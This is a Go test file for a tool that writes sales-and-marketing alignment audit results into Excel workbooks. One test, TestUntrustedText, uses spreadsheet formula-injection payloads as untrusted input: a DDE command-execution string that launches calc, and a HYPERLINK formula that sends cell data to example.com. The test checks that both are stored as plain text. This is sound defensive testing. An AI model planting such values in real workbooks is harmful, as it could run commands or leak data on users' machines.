package tracker

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/alignaudit/audit/internal/answers"
	"github.com/alignaudit/audit/internal/rubric"
	"github.com/alignaudit/audit/internal/scoring"
	"github.com/alignaudit/audit/internal/xlsx"
	"github.com/alignaudit/audit/internal/xlsx/xlsxtest"
	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// rows returns a sheet's raw cell values.
func rows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rs, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func cellType(t *testing.T, f *excelize.File, sheet, cell string) excelize.CellType {
	t.Helper()
	ct, err := f.GetCellType(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	return ct
}

// historyHeader is History's header for the built-in rubric.
func historyHeader(r *rubric.Rubric) []string {
	h := append([]string{}, historyFixed...)
	for _, a := range r.Areas {
		h = append(h, a.Title)
	}
	return append(append(h, recordedTitle), gapTitles...)
}

func num(t *testing.T, s string) float64 {
	t.Helper()
	v, err := strconv.ParseFloat(s, 64)
	if err != nil {
		t.Fatalf("%q is not a number", s)
	}
	return v
}

func near(a, b float64) bool { return math.Abs(a-b) < 1e-9 }

func TestNewTracker(t *testing.T) {
	res := result(t, "Northwind Traders", "2026-Q3", 0)
	data := update(t, nil, res)
	f := open(t, data)
	if got, want := f.GetSheetList(), []string{HistorySheet, ActionsSheet, TargetsSheet, TrendSheet, ScoresSheet, AnswersSheet}; !cmp.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}

	h := rows(t, f, HistorySheet)
	if diff := cmp.Diff(historyHeader(res.Rubric), h[0]); diff != "" {
		t.Errorf("History header (-want +got):\n%s", diff)
	}
	if len(h) != 2 {
		t.Fatalf("History has %d rows, want header and 1", len(h))
	}
	row := h[1]
	want := []string{"2026-Q3", "Northwind Traders", "alignment", "1.0", "3"}
	if diff := cmp.Diff(want, row[:5]); diff != "" {
		t.Errorf("History row (-want +got):\n%s", diff)
	}
	if got := num(t, row[colOverall-1]); !near(got, *res.Overall) {
		t.Errorf("Overall %v, want %v", got, *res.Overall)
	}
	if row[colBand-1] != res.Band.Label {
		t.Errorf("Band %q, want %q", row[colBand-1], res.Band.Label)
	}
	for i, a := range res.Areas {
		if got := num(t, row[colFirstArea-1+i]); !near(got, *a.Score) {
			t.Errorf("%s: %v, want %v", a.Area.Title, got, *a.Score)
		}
	}
	recorded := xlsx.ColumnName(colFirstArea+len(res.Areas)) + "2"
	if got := num(t, row[colFirstArea-1+len(res.Areas)]); got != 46296 { // 2026-10-01
		t.Errorf("Recorded %v, want 46296", got)
	}
	if v, _ := f.GetCellValue(HistorySheet, recorded); v != "2026-10-01" {
		t.Errorf("Recorded shows %q, want 2026-10-01", v)
	}
	if v, _ := f.GetCellValue(HistorySheet, "F2"); v != fmt.Sprintf("%.1f", *res.Overall) {
		t.Errorf("Overall shows %q, want one decimal", v)
	}
	for _, c := range []string{"E2", "F2", "H2", recorded} {
		if ct := cellType(t, f, HistorySheet, c); ct != excelize.CellTypeNumber && ct != excelize.CellTypeUnset {
			t.Errorf("History %s has type %v, want a number", c, ct)
		}
	}
	for _, c := range []string{"A2", "B2", "C2", "D2", "G2"} {
		if ct := cellType(t, f, HistorySheet, c); ct != excelize.CellTypeInlineString {
			t.Errorf("History %s has type %v, want a string", c, ct)
		}
	}

	a := rows(t, f, AnswersSheet)
	if diff := cmp.Diff(AnswersHeader, a[0]); diff != "" {
		t.Errorf("Answers header (-want +got):\n%s", diff)
	}
	if got, want := len(a)-1, len(res.Respondents)*len(res.Questions); got != want {
		t.Errorf("Answers has %d rows, want %d", got, want)
	}
	// Dana Reyes's comment on lead-quality-feedback-action.
	found := false
	for i, r := range a[1:] {
		if len(r) > 7 && r[3] == "Dana Reyes" && r[7] == "lead-quality-feedback-action" {
			found = true
			if r[9] != "disputed" || !strings.HasPrefix(r[12], "We flag bad leads") {
				t.Errorf("Answers row %d: %q", i+2, r)
			}
			if ct := cellType(t, f, AnswersSheet, "L"+strconv.Itoa(i+2)); ct != excelize.CellTypeNumber && ct != excelize.CellTypeUnset {
				t.Errorf("Score has type %v, want a number", ct)
			}
		}
		if len(r) > 9 && r[3] == "Dana Reyes" && r[7] == "handoff-follow-up" && (r[9] != "na" || r[10] != "Not applicable" || len(r) > 11 && r[11] != "") {
			t.Errorf("N/A answer: %q", r)
		}
	}
	if !found {
		t.Error("Answers lacks Dana Reyes's answer to lead-quality-feedback-action")
	}
	if panes, _ := f.GetPanes(AnswersSheet); !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("Answers panes %+v, want the header frozen", panes)
	}

	tr := rows(t, f, TrendSheet)
	if len(tr) != trendTableRow+1 || tr[trendTableRow-1][1] != "Northwind Traders" || tr[trendTableRow][0] != "2026-Q3" {
		t.Errorf("Trend table: %q", tr[trendTableRow-1:])
	}
	if !hasPart(t, data, "xl/charts/chart1.xml") {
		t.Error("no Trend chart")
	}
}

func hasPart(t *testing.T, data []byte, name string) bool {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == name {
			return true
		}
	}
	return false
}

// parts returns the uncompressed parts of a workbook.
func parts(t *testing.T, data []byte) map[string]string {
	t.Helper()
	parts, err := xlsxtest.Parts(data)
	if err != nil {
		t.Fatal(err)
	}
	return parts
}

func TestQuarters(t *testing.T) {
	q3 := result(t, "Northwind Traders", "2026-Q3", 0)
	q4 := result(t, "Northwind Traders", "2026-Q4", 1)
	other := result(t, "Contoso", "2026-Q4", 0)
	data := update(t, nil, q3)
	data = update(t, data, other)
	data = update(t, data, q4)
	f := open(t, data)
	h := rows(t, f, HistorySheet)
	var keys []string
	for _, r := range h[1:] {
		keys = append(keys, r[1]+" "+r[0])
	}
	want := []string{"Contoso 2026-Q4", "Northwind Traders 2026-Q3", "Northwind Traders 2026-Q4"}
	if diff := cmp.Diff(want, keys); diff != "" {
		t.Errorf("History rows (-want +got):\n%s", diff)
	}
	if got := num(t, h[3][colRespondents-1]); got != 2 {
		t.Errorf("Q4 respondents %v, want 2", got)
	}

	// Answers: teams and periods in order, each block complete.
	a := rows(t, f, AnswersSheet)
	n := len(q3.Questions)
	var blocks []string
	for _, r := range a[1:] {
		k := r[1] + " " + r[0]
		if len(blocks) == 0 || blocks[len(blocks)-1] != k {
			blocks = append(blocks, k)
		}
	}
	if diff := cmp.Diff(want, blocks); diff != "" {
		t.Errorf("Answers blocks (-want +got):\n%s", diff)
	}
	if got := len(a) - 1; got != n*(3+3+2) {
		t.Errorf("Answers has %d rows, want %d", got, n*8)
	}

	// The trend table has both quarters and both teams.
	tr := rows(t, f, TrendSheet)
	if got := tr[trendTableRow-1]; !cmp.Equal(got, []string{"Period", "Contoso", "Northwind Traders", "Contoso gap", "Northwind Traders gap"}) {
		t.Errorf("Trend header %q", got)
	}
	if got := tr[trendTableRow+1]; got[0] != "2026-Q4" || !near(num(t, got[2]), *q4.Overall) {
		t.Errorf("Trend Q4 row %q", got)
	}

	tk, err := Read(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer tk.Close()
	hist := tk.History("Northwind Traders", "alignment", "2027-Q1")
	if len(hist) != 2 || hist[0].Period != "2026-Q3" || hist[1].Period != "2026-Q4" {
		t.Fatalf("History: %+v", hist)
	}
	if !near(*hist[0].Overall, *q3.Overall) {
		t.Errorf("Q3 overall %v, want %v", *hist[0].Overall, *q3.Overall)
	}
	for _, a := range q4.Areas {
		if got := hist[1].Areas[a.Area.Title]; got == nil || !near(*got, *a.Score) {
			t.Errorf("Q4 %s: %v, want %v", a.Area.Title, got, *a.Score)
		}
	}
	if hist := tk.History("Northwind Traders", "alignment", "2026-Q4"); len(hist) != 1 || hist[0].Period != "2026-Q3" {
		t.Errorf("History before Q4: %+v", hist)
	}
	if hist := tk.History("Northwind Traders", "other-rubric", "2027-Q1"); len(hist) != 0 {
		t.Errorf("History of another rubric: %+v", hist)
	}
}

func TestRerun(t *testing.T) {
	first := result(t, "Northwind Traders", "2026-Q3", 0)
	again := result(t, "Northwind Traders", "2026-Q3", 1)
	data := update(t, nil, first)
	data = update(t, data, result(t, "Northwind Traders", "2026-Q4", 0))
	data = update(t, data, again)
	f := open(t, data)
	h := rows(t, f, HistorySheet)
	if len(h) != 3 {
		t.Fatalf("History has %d rows, want header and 2", len(h))
	}
	if h[1][0] != "2026-Q3" || num(t, h[1][colRespondents-1]) != 2 || !near(num(t, h[1][colOverall-1]), *again.Overall) {
		t.Errorf("re-run row %q", h[1])
	}
	a := rows(t, f, AnswersSheet)
	n := len(first.Questions)
	if got := len(a) - 1; got != n*(2+3) {
		t.Errorf("Answers has %d rows, want %d", got, n*5)
	}
	// The re-run's rows replace the first run's, in place: before Q4.
	for i, r := range a[1 : 1+2*n] {
		if r[0] != "2026-Q3" || r[3] == "Dana Reyes" {
			t.Fatalf("Answers row %d: %q", i+2, r)
		}
	}
}

// TestTeamInAnotherCase (issue 16, item 2): a team's name in another case
// is the same team, as it is for file names: its quarter replaces the row
// and the answer rows of the same quarter, its history holds the earlier
// quarters, and the Trend sheet has one line for it.
func TestTeamInAnotherCase(t *testing.T) {
	data := update(t, nil, result(t, "Northwind Traders", "2026-Q2", 0))
	data = update(t, data, result(t, "Northwind Traders", "2026-Q3", 0))
	data = update(t, data, result(t, "NORTHWIND TRADERS", "2026-Q3", 1))
	f := open(t, data)
	h := rows(t, f, HistorySheet)
	if len(h) != 3 || h[2][colTeam-1] != "NORTHWIND TRADERS" || num(t, h[2][colRespondents-1]) != 2 {
		t.Errorf("History %q: want Q2 and the re-run Q3", h)
	}
	if got := len(rows(t, f, AnswersSheet)) - 1; got != len(result(t, "x", "2026-Q3", 0).Questions)*5 {
		t.Errorf("Answers has %d rows, want those of Q2 (3 respondents) and the re-run Q3 (2)", got)
	}
	tr, err := Read(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Close()
	if got := tr.History("northwind traders", "alignment", "2026-Q4"); len(got) != 2 {
		t.Errorf("History of northwind traders: %d quarters, want 2", len(got))
	}
	if trend := rows(t, f, TrendSheet); len(trend) < 5 || len(trend[trendTableRow-1]) != 3 {
		t.Errorf("Trend table %q: want one team column and its gap", trend)
	}
}

// areaRubric returns the built-in rubric with one more area, whose one
// question is a copy of the first.
func areaRubric(t *testing.T) *rubric.Rubric {
	r := *builtin(t)
	q := r.Areas[0].Questions[0]
	q.ID = "partners-shared-targets"
	r.Areas = append(append([]rubric.Area{}, r.Areas...), rubric.Area{
		ID: "partners", Title: "Partner channel", Weight: 1, Questions: []rubric.Question{q},
	})
	return &r
}

func TestAreaAdded(t *testing.T) {
	base := result(t, "Northwind Traders", "2026-Q3", 0)
	sheets := examples(t, "Northwind Traders", "2026-Q4")
	for _, s := range sheets {
		s.Answers["partners-shared-targets"] = answers.Answer{Option: "joint"}
	}
	bigger := score(t, areaRubric(t), sheets)
	// A rubric without the first area, later.
	smaller := *builtin(t)
	smaller.Areas = smaller.Areas[1:]
	later := examples(t, "Northwind Traders", "2027-Q1")
	for _, s := range later {
		for _, q := range base.Rubric.Areas[0].Questions {
			delete(s.Answers, q.ID)
		}
	}
	less := score(t, &smaller, later)

	data := update(t, nil, base)
	data = update(t, data, bigger)
	data = update(t, data, less)
	f := open(t, data)
	h := rows(t, f, HistorySheet)
	wantHeader := append(historyHeader(base.Rubric)[:colFirstArea-1+len(base.Areas)], "Partner channel", recordedTitle, "Sales", "Marketing", "Gap")
	if diff := cmp.Diff(wantHeader, h[0]); diff != "" {
		t.Fatalf("History header (-want +got):\n%s", diff)
	}
	partner := colFirstArea - 1 + len(base.Areas)
	if len(h[1]) <= partner || h[1][partner] != "" {
		t.Errorf("Q3 has a Partner channel score: %q", h[1])
	}
	if got := num(t, h[2][partner]); got != 100 {
		t.Errorf("Q4 Partner channel %v, want 100", got)
	}
	if got := num(t, h[1][partner+1]); got != 46296 {
		t.Errorf("Q3 Recorded moved: %q", h[1])
	}
	if h[3][colFirstArea-1] != "" || h[3][colFirstArea] == "" {
		t.Errorf("2027-Q1 row without the goals area: %q", h[3])
	}
	if style, _ := f.GetCellStyle(HistorySheet, xlsx.ColumnName(partner+1)+"1"); style == 0 {
		t.Error("the new header cell has no style")
	}
}

// TestAreasNeverShareAColumn: two areas whose titles read the same in a
// cell (here one differs by a control character, which cells cannot hold)
// are refused, instead of one score being dropped from History.
func TestAreasNeverShareAColumn(t *testing.T) {
	r := *builtin(t)
	r.Areas = slices.Clone(r.Areas)
	r.Areas[1].Title = r.Areas[0].Title + "\x01 "
	res := score(t, &r, examples(t, "Northwind Traders", "2026-Q3"))
	tr, err := New()
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Close()
	err = tr.Record(res, day)
	if err == nil || !strings.Contains(err.Error(), "would share the History column") {
		t.Fatalf("Record = %v, want the shared column refused", err)
	}
}

func TestOrder(t *testing.T) {
	var results []*scoring.Result
	for _, k := range []struct{ team, period string }{
		{"Zeta", "2026-Q1"}, {"Alpha", "2026-Q3"}, {"Zeta", "2025-Q4"}, {"Alpha", "2026-Q1"}, {"Mid", "2026-Q2"},
	} {
		results = append(results, result(t, k.team, k.period, 2))
	}
	// One at a time and all at once give the same order.
	data := update(t, nil, results[:2]...)
	for _, res := range results[2:] {
		data = update(t, data, res)
	}
	all := update(t, nil, results...)
	want := []string{"Alpha 2026-Q1", "Alpha 2026-Q3", "Mid 2026-Q2", "Zeta 2025-Q4", "Zeta 2026-Q1"}
	for _, d := range [][]byte{data, all} {
		f := open(t, d)
		var got, blocks []string
		for _, r := range rows(t, f, HistorySheet)[1:] {
			got = append(got, r[1]+" "+r[0])
		}
		for _, r := range rows(t, f, AnswersSheet)[1:] {
			if k := r[1] + " " + r[0]; len(blocks) == 0 || blocks[len(blocks)-1] != k {
				blocks = append(blocks, k)
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("History (-want +got):\n%s", diff)
		}
		if diff := cmp.Diff(want, blocks); diff != "" {
			t.Errorf("Answers (-want +got):\n%s", diff)
		}
	}
}

func TestDeterministic(t *testing.T) {
	a := update(t, nil, result(t, "Northwind Traders", "2026-Q3", 0))
	b := update(t, nil, result(t, "Northwind Traders", "2026-Q3", 0))
	if !bytes.Equal(a, b) {
		pa, pb := parts(t, a), parts(t, b)
		for name := range pa {
			if pa[name] != pb[name] {
				t.Errorf("part %s differs:\n%s\n%s", name, pa[name], pb[name])
			}
		}
		t.Error("the same tracker written twice differs")
	}
	a2 := update(t, a, result(t, "Northwind Traders", "2026-Q4", 0))
	b2 := update(t, b, result(t, "Northwind Traders", "2026-Q4", 0))
	if !bytes.Equal(a2, b2) {
		t.Error("the same update written twice differs")
	}
}

func TestUntrustedText(t *testing.T) {
	sheets := examples(t, "=cmd|'/C calc'!A0", "2026-Q3")
	inject := `=HYPERLINK("http://example.com/x?"&A1,"click")`
	odd := "tab\there, bell\a, nul\x00, cr\r\nlf, _x0041_ stays, emoji 🚀, \xff bad byte"
	sheets[0].Respondent = "+SUM(1,2)"
	sheets[0].Answers["goals-shared-targets"] = answers.Answer{Option: "joint", Comment: inject}
	sheets[0].Answers["goals-marketing-metrics"] = answers.Answer{Option: "revenue", Comment: odd}
	res := score(t, builtin(t), sheets)
	data := update(t, nil, res)
	f := open(t, data)
	want := map[string]bool{inject: false, xlsx.Clean(odd): false}
	for i, r := range rows(t, f, AnswersSheet)[1:] {
		if len(r) < 13 {
			continue
		}
		if _, ok := want[r[12]]; !ok {
			continue
		}
		want[r[12]] = true
		cell := "M" + strconv.Itoa(i+2)
		if ct := cellType(t, f, AnswersSheet, cell); ct != excelize.CellTypeSharedString {
			t.Errorf("%s has type %v, want a (shared) string", cell, ct)
		}
		if formula, _ := f.GetCellFormula(AnswersSheet, cell); formula != "" {
			t.Errorf("%s has the formula %q", cell, formula)
		}
		if r[3] != "+SUM(1,2)" || r[1] != "=cmd|'/C calc'!A0" {
			t.Errorf("row %q", r)
		}
	}
	for text, seen := range want {
		if !seen {
			t.Errorf("comment %q not found", text)
		}
	}
	if got := xlsx.Clean(odd); got != "tab\there, bell, nul, cr\nlf, _x0041_ stays, emoji 🚀, \uFFFD bad byte" {
		t.Errorf("clean: %q", got)
	}
	if formula, _ := f.GetCellFormula(HistorySheet, "B2"); formula != "" {
		t.Errorf("History team has the formula %q", formula)
	}
	if v, _ := f.GetCellValue(HistorySheet, "B2"); v != "=cmd|'/C calc'!A0" {
		t.Errorf("History team %q", v)
	}
	// And read back by the tracker itself.
	tr, err := Read(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Close()
	if hist := tr.History("=cmd|'/C calc'!A0", "alignment", "2026-Q4"); len(hist) != 1 {
		t.Errorf("History of the odd team: %+v", hist)
	}
}

// userWorkbook makes a workbook with a user's own sheets: formatting,
// merged cells, a formula, a defined name, a comment, a chart, a table,
// data validation and conditional formatting.
func userWorkbook(t testing.TB) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(f.SetSheetName("Sheet1", "Notes"))
	bold, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Bold: true, Color: "C00000"},
		Fill: excelize.Fill{Type: "pattern", Pattern: 1, Color: []string{"FFFF00"}}})
	must(err)
	must(f.SetCellStr("Notes", "A1", "Our own notes"))
	must(f.SetCellStyle("Notes", "A1", "A1", bold))
	must(f.MergeCell("Notes", "A1", "C1"))
	must(f.SetColWidth("Notes", "A", "A", 33))
	for i, v := range []float64{3, 4, 5} {
		must(f.SetCellFloat("Notes", "B"+strconv.Itoa(i+2), v, -1, 64))
		must(f.SetCellStr("Notes", "A"+strconv.Itoa(i+2), "Q"+strconv.Itoa(i+1)))
	}
	must(f.SetCellFormula("Notes", "B5", "SUM(B2:B4)"))
	must(f.SetDefinedName(&excelize.DefinedName{Name: "Targets", RefersTo: "Notes!$B$2:$B$4"}))
	must(f.AddComment("Notes", excelize.Comment{Cell: "A2", Author: "Dana", Text: "check this"}))
	must(f.AddChart("Notes", "E2", &excelize.Chart{Type: excelize.Col, Series: []excelize.ChartSeries{
		{Name: "Notes!$A$1", Categories: "Notes!$A$2:$A$4", Values: "Notes!$B$2:$B$4"}}}))
	must(f.AddDataValidation("Notes", func() *excelize.DataValidation {
		dv := excelize.NewDataValidation(true)
		dv.Sqref = "C2:C4"
		must(dv.SetDropList([]string{"yes", "no"}))
		return dv
	}()))
	red, err := f.NewConditionalStyle(&excelize.Style{Font: &excelize.Font{Color: "9A0511"}})
	must(err)
	must(f.SetConditionalFormat("Notes", "B2:B4", []excelize.ConditionalFormatOptions{
		{Type: "cell", Criteria: ">", Format: &red, Value: "4"}}))
	_, err = f.NewSheet("Data")
	must(err)
	must(f.SetSheetRow("Data", "A1", &[]any{"Name", "Value"}))
	must(f.SetSheetRow("Data", "A2", &[]any{"x", 1}))
	must(f.AddTable("Data", &excelize.Table{Range: "A1:B2", Name: "MyTable"}))
	var buf bytes.Buffer
	_, err = f.WriteTo(&buf)
	must(err)
	return buf.Bytes()
}

func TestUserWorkbook(t *testing.T) {
	orig := userWorkbook(t)
	before := parts(t, orig)
	data := update(t, orig, result(t, "Northwind Traders", "2026-Q3", 0))
	data = update(t, data, result(t, "Northwind Traders", "2026-Q4", 1))
	after := parts(t, data)
	// The parts the tracker does not own are kept as they were; the
	// workbook part, its relationships, the styles, the shared strings
	// (which gain the History header), the content types and the document
	// properties change.
	changes := map[string]bool{
		"xl/workbook.xml": true, "xl/_rels/workbook.xml.rels": true, "xl/styles.xml": true,
		"[Content_Types].xml": true, "docProps/core.xml": true, "docProps/app.xml": true,
		"xl/sharedStrings.xml": true,
	}
	for name, content := range before {
		if changes[name] {
			continue
		}
		if got, ok := after[name]; !ok {
			t.Errorf("part %s is gone", name)
		} else if got != content {
			t.Errorf("part %s changed", name)
		}
	}
	f := open(t, data)
	if got, want := f.GetSheetList(), []string{"Notes", "Data", HistorySheet, ActionsSheet, TargetsSheet, TrendSheet, ScoresSheet, AnswersSheet}; !cmp.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
	if v, _ := f.GetCellValue("Notes", "A1"); v != "Our own notes" {
		t.Errorf("Notes A1 %q", v)
	}
	if formula, _ := f.GetCellFormula("Notes", "B5"); formula != "SUM(B2:B4)" {
		t.Errorf("Notes B5 formula %q", formula)
	}
	names := f.GetDefinedName()
	if len(names) != 1 || names[0].Name != "Targets" {
		t.Errorf("defined names %+v", names)
	}
	if tables, _ := f.GetTables("Data"); len(tables) != 1 || tables[0].Name != "MyTable" {
		t.Errorf("tables %+v", tables)
	}
	if comments, _ := f.GetComments("Notes"); len(comments) != 1 {
		t.Errorf("comments %+v", comments)
	}
	if rows := rows(t, f, HistorySheet); len(rows) != 3 {
		t.Errorf("History has %d rows, want 3", len(rows))
	}
	// Only the Trend charts were replaced: one chart of the user's, two of
	// the tracker's (the scores and the gap).
	charts := 0
	for name := range after {
		if strings.HasPrefix(name, "xl/charts/chart") {
			charts++
		}
	}
	if charts != 3 {
		t.Errorf("%d charts, want 3", charts)
	}
}

// TestUserSheetAmong checks a tracker whose user put a sheet between its
// sheets, selected it and saved shared strings (as Excel does).
func TestUserSheetAmong(t *testing.T) {
	data := update(t, nil, result(t, "Northwind Traders", "2026-Q3", 0))
	f := open(t, data)
	if _, err := f.NewSheet("Mine"); err != nil {
		t.Fatal(err)
	}
	if err := f.MoveSheet("Mine", TrendSheet); err != nil {
		t.Fatal(err)
	}
	if err := f.SetCellStr("Mine", "A1", "kept"); err != nil {
		t.Fatal(err)
	}
	if err := f.SetDefinedName(&excelize.DefinedName{Name: "Print_Titles_Mine", RefersTo: "Mine!$A$1", Scope: "Mine"}); err != nil {
		t.Fatal(err)
	}
	// Rewrite the Answers rows with shared strings.
	old := rows(t, f, AnswersSheet)
	for i, r := range old {
		for j, v := range r {
			cell := xlsx.ColumnName(j+1) + strconv.Itoa(i+1)
			if j == answersScoreCol-1 && i > 0 && v != "" {
				continue
			}
			if err := f.SetCellStr(AnswersSheet, cell, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	data = update(t, buf.Bytes(), result(t, "Contoso", "2026-Q4", 0))
	g := open(t, data)
	if got, want := g.GetSheetList(), []string{HistorySheet, ActionsSheet, TargetsSheet, "Mine", TrendSheet, ScoresSheet, AnswersSheet}; !cmp.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
	if v, _ := g.GetCellValue("Mine", "A1"); v != "kept" {
		t.Errorf("Mine A1 %q", v)
	}
	names := g.GetDefinedName()
	if len(names) != 1 || names[0].Scope != "Mine" {
		t.Errorf("defined names %+v", names)
	}
	a := rows(t, g, AnswersSheet)
	if diff := cmp.Diff(old[1:], a[1+len(old)-1:]); diff != "" {
		t.Errorf("old Answers rows (-want +got):\n%s", diff)
	}
	if a[1][1] != "Contoso" {
		t.Errorf("Contoso's rows are not first: %q", a[1])
	}
}

func TestNotATracker(t *testing.T) {
	tracker := update(t, nil, result(t, "Northwind Traders", "2026-Q3", 0))
	edit := func(fn func(f *excelize.File)) []byte {
		f := open(t, tracker)
		fn(f)
		var buf bytes.Buffer
		if _, err := f.WriteTo(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	var notWorkbook bytes.Buffer
	zw := zip.NewWriter(&notWorkbook)
	w, _ := zw.Create("word/document.xml")
	io.WriteString(w, "<document/>")
	zw.Close()

	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"empty", nil, "not an Excel workbook"},
		{"text", []byte("Period,Team\n2026-Q3,Northwind\n"), "not an Excel workbook"},
		{"zip", notWorkbook.Bytes(), "not an Excel workbook"},
		{"xls", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 512)...), "old .xls"},
		{"truncated", tracker[:len(tracker)/2], "not an Excel workbook"},
		{"header", edit(func(f *excelize.File) { f.SetCellStr(HistorySheet, "B1", "Squad") }), `has the header "Period | Squad`},
		{"header gap", edit(func(f *excelize.File) { f.SetCellStr(HistorySheet, "H1", "") }), "has the header"},
		{"no recorded", edit(func(f *excelize.File) { f.SetCellStr(HistorySheet, "P1", "Notes") }), "has the header"},
		{"answers header", edit(func(f *excelize.File) { f.SetCellStr(AnswersSheet, "M1", "Remark") }), `sheet "Answers" has the header`},
		{"no history", edit(func(f *excelize.File) { f.DeleteSheet(HistorySheet) }), "no History sheet"},
		{"header row 2", edit(func(f *excelize.File) { f.InsertRows(HistorySheet, 1, 1) }), "row 1 is empty"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := Read(bytes.NewReader(c.data))
			var fe *FormatError
			if !errors.As(err, &fe) {
				t.Fatalf("error %v, want a FormatError", err)
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Errorf("error %q, want it to say %q", err, c.want)
			}
		})
	}
}

// TestOwnWorkbook records into a workbook that is not a tracker yet.
func TestOwnWorkbook(t *testing.T) {
	f := excelize.NewFile()
	f.SetCellStr("Sheet1", "A1", "hello")
	var buf bytes.Buffer
	f.WriteTo(&buf)
	data := update(t, buf.Bytes(), result(t, "Northwind Traders", "2026-Q3", 0))
	g := open(t, data)
	if got, want := g.GetSheetList(), []string{"Sheet1", HistorySheet, ActionsSheet, TargetsSheet, TrendSheet, ScoresSheet, AnswersSheet}; !cmp.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
	if h := rows(t, g, HistorySheet); len(h) != 2 || h[0][0] != "Period" {
		t.Errorf("History %q", h)
	}
}

func TestEmptyResult(t *testing.T) {
	r := builtin(t)
	res := &scoring.Result{Rubric: r, Team: "Empty", Period: "2026-Q1"}
	for i := range r.Areas {
		res.Areas = append(res.Areas, scoring.AreaResult{Area: &r.Areas[i]})
	}
	data := update(t, nil, res)
	h := rows(t, open(t, data), HistorySheet)
	if len(h) != 2 || h[1][colOverall-1] != "" || h[1][colRespondents-1] != "0" {
		t.Errorf("History %q", h)
	}
}

func TestQuartersFilled(t *testing.T) {
	got := quarters(map[string]bool{"2025-Q3": true, "2026-Q2": true})
	want := []string{"2025-Q3", "2025-Q4", "2026-Q1", "2026-Q2"}
	if !cmp.Equal(got, want) {
		t.Errorf("quarters %q, want %q", got, want)
	}
	got = quarters(map[string]bool{"2025-Q3": true, "autumn": true})
	if want := []string{"2025-Q3", "autumn"}; !cmp.Equal(got, want) {
		t.Errorf("quarters %q, want %q", got, want)
	}
}

// TestQuartersAsDocumented (issue 16, item 16): the docs said every
// quarter between the first and the last is listed, but over 400 quarters
// only those with scores are. The docs now say so; this holds them to it.
func TestQuartersAsDocumented(t *testing.T) {
	got := quarters(map[string]bool{"1926-Q1": true, "2026-Q2": true})
	if want := []string{"1926-Q1", "2026-Q2"}; !cmp.Equal(got, want) {
		t.Errorf("quarters over %d: %q, want only those with scores", maxQuarters, got)
	}
	if got := quarters(map[string]bool{"1926-Q3": true, "2026-Q2": true}); len(got) != maxQuarters {
		t.Errorf("quarters of %d: %d listed, want every one", maxQuarters, len(got))
	}
	docs, err := os.ReadFile("../../docs/workbooks.md")
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(strings.Fields(string(docs)), " ")
	if want := fmt.Sprintf("at most %d quarters (%d years) apart", maxQuarters, maxQuarters/4); !strings.Contains(text, want) {
		t.Errorf("docs/workbooks.md does not say that the quarters without scores are filled in when the first and last are %s", want)
	}
}

func TestQuoteSheet(t *testing.T) {
	for in, want := range map[string]string{"Trend": "Trend", "My trend": "'My trend'", "it's": "'it''s'", "2026": "'2026'"} {
		if got := quoteSheet(in); got != want {
			t.Errorf("quoteSheet(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriteOnce(t *testing.T) {
	tr, err := New()
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Close()
	if err := tr.Write(io.Discard); err != nil {
		t.Fatal(err)
	}
	if err := tr.Write(io.Discard); err == nil {
		t.Error("a second Write succeeded")
	}
	if err := tr.Record(result(t, "X", "2026-Q1", 0), day); err == nil {
		t.Error("Record after Write succeeded")
	}
}
